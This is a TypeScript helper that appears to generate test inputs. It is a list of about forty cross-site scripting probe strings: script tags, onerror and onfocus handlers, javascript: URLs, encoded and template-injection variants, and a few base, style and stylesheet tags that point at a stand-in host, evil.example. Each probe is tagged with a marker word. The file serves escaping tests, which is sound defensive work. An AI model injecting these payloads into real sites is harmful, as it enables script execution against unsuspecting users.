/** What people have put into fields to see whether a page runs it. `N` is the number of the text. */
const SHAPES = [
  '<script>alert(N)</script>',
  '<img src=x onerror=alert(N)>',
  '<svg onload=alert(N)>',
  '<svg><script>alert(N)</script></svg>',
  '"><script>alert(N)</script>',
  "'><img src=x onerror=alert(N)>",
  '" onmouseover="alert(N)" x="',
  "' autofocus onfocus='alert(N)",
  '</title><script>alert(N)</script>',
  '</script><script>alert(N)</script>',
  '<!--<script>alert(N)//-->',
  '--><script>alert(N)</script>',
  ']]><script>alert(N)</script>',
  '</textarea><script>alert(N)</script>',
  '<iframe srcdoc="<script>alert(N)</script>">',
  '<a href="javascript:alert(N)">press</a>',
  '<base href="//evil.example/">N',
  '<meta http-equiv=refresh content="0;url=javascript:alert(N)">',
  '<style>*{background:url(//evil.example/N)}</style>',
  '<link rel=stylesheet href=//evil.example/N.css>',
  '<object data="javascript:alert(N)">',
  '<math><mtext><img src=x onerror=alert(N)></mtext></math>',
  '&lt;script&gt;alert(N)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(N)&#62;',
  '%3Cscript%3Ealert(N)%3C/script%3E',
  String.raw`\u003cscript\u003ealert(N)\u003c/script\u003e`,
  '${alert(N)}',
  '{{constructor.constructor("alert(N)")()}}',
  '__NONCE__ <!--head--> N',
  'javascript:alert(N)',
  'data:text/html,<script>alert(N)</script>',
  '<details open ontoggle=alert(N)>',
  '<video><source onerror=alert(N)></video>',
  '<input autofocus onfocus=alert(N)>',
  '<form action="javascript:alert(N)"><button>go</button></form>',
  '\u202Eتقلب <b>N</b> النص\u202C',
  'Z̴̧̛ą̷l̸g̵o̶ N <u>under</u>',
  'constructor __proto__ toString N',
  '<template><script>alert(N)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(N)>">',
] as const;

/** Each is found by this word. */
export const HOSTILE_WORD = 'zephyr';

export const hostileText = (number: number): string => {
  const shape = SHAPES[number % SHAPES.length] ?? '';
  return `${HOSTILE_WORD} ${shape.replaceAll('N', () => String(number))}`;
};
